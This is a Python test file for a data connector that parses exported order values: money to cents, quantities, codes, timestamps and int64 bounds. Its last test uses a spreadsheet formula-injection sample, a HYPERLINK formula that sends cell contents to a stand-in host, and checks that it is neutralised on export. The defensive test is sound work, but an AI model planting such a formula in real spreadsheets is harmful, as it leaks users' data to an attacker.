"""Export cell values: money to exact cents, whole quantities, times in business time."""

from __future__ import annotations

from datetime import datetime
from decimal import Decimal

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.file_reading import read_table
from connectors.file_values import BAD, EMPTY, OK, cents, clean_code, clean_text, to_time, whole_number
from connectors.files import write_fixup


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("59.90", 5990),
        ("¥1,234.50", 123450),
        ("￥１，２３４.５", 123450),
        ("3元", 300),
        ("RMB 12.00", 1200),
        ("0.30000000000000004", 30),
        ("12.345", 1235),
        ("-5", -500),
        (".5", 50),
        ("abc", None),
        ("1.2.3", None),
        ("", None),
    ],
)
def test_an_amount_becomes_exact_cents(text, expected):
    assert cents(text) == expected


@given(st.decimals(min_value=0, max_value=Decimal("99999999.99"), places=2))
def test_any_two_decimal_amount_survives_currency_signs_and_thousands_separators(amount):
    assert cents(f"¥{amount:,.2f}") == int(amount * 100)


@pytest.mark.parametrize(
    ("text", "expected"), [("３", 3), ("2.0", 2), ("-1", -1), (" 4 ", 4), ("1.5", None), ("x", None), ("1e3", None)]
)
def test_a_quantity_must_be_a_whole_number(text, expected):
    assert whole_number(text) == expected


def test_text_protection_and_full_width_characters_are_removed_from_codes():
    raw = pd.Series(
        ['="3028689418086124"', "'13800138000", " ＰＥＴ－ＦＯＯＤ－２ＫＧ ", "\t2026010500001"], dtype="str"
    )
    assert clean_code(raw).tolist() == ["3028689418086124", "13800138000", "PET-FOOD-2KG", "2026010500001"]


def test_times_in_every_export_style_arrive_in_business_time():
    texts = [
        "2026-01-05 10:00:00",
        "2026/1/5 10:00",
        "2026-01-05T10:00:00+08:00",
        "2025-12-06 10:37:33 -0500",
        "46027.4375",
        "2026年1月5日 10:00:00",
        "2026-01-05",
        "",
        "昨天下午",
        "2026-02-30 10:00:00",
    ]
    parsed, state = to_time(pd.Series(texts, dtype="str"))
    expected = [
        datetime(2026, 1, 5, 10),
        datetime(2026, 1, 5, 10),
        datetime(2026, 1, 5, 10),
        datetime(2025, 12, 6, 23, 37, 33),
        datetime(2026, 1, 5, 10, 30),
        datetime(2026, 1, 5, 10),
        datetime(2026, 1, 5),
    ]
    assert parsed[:7].tolist() == expected
    assert state.tolist() == [OK] * 7 + [EMPTY, BAD, BAD]


def test_numbers_beyond_int64_are_kept_at_its_bound_to_be_refused_as_too_large():
    from connectors.file_values import to_cents, to_whole

    values, states = to_whole(pd.Series(["12345678901234567890", "-99999999999999999999", "3"], dtype="str"))
    assert values.tolist() == [2**63 - 1, -(2**63 - 1), 3] and (states == OK).all()
    cents, _ = to_cents(pd.Series(["-" + "9" * 21], dtype="str"))
    assert cents.tolist() == [-(2**63 - 1)]


def test_a_fixup_file_quotes_formula_cells_and_its_import_reads_them_back_as_written(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = tmp_path / "fix.csv"
    write_fixup([{"raw": {"order_no": "TB1", "address": hostile, "qty": "-1"}}], path)
    cells = read_table(path).frame.iloc[0]
    assert cells["address"] == "'" + hostile and cells["qty"] == "'-1"  # inert when Excel opens it
    assert clean_text(pd.Series([cells["address"]])).tolist() == [hostile]  # and the text it was
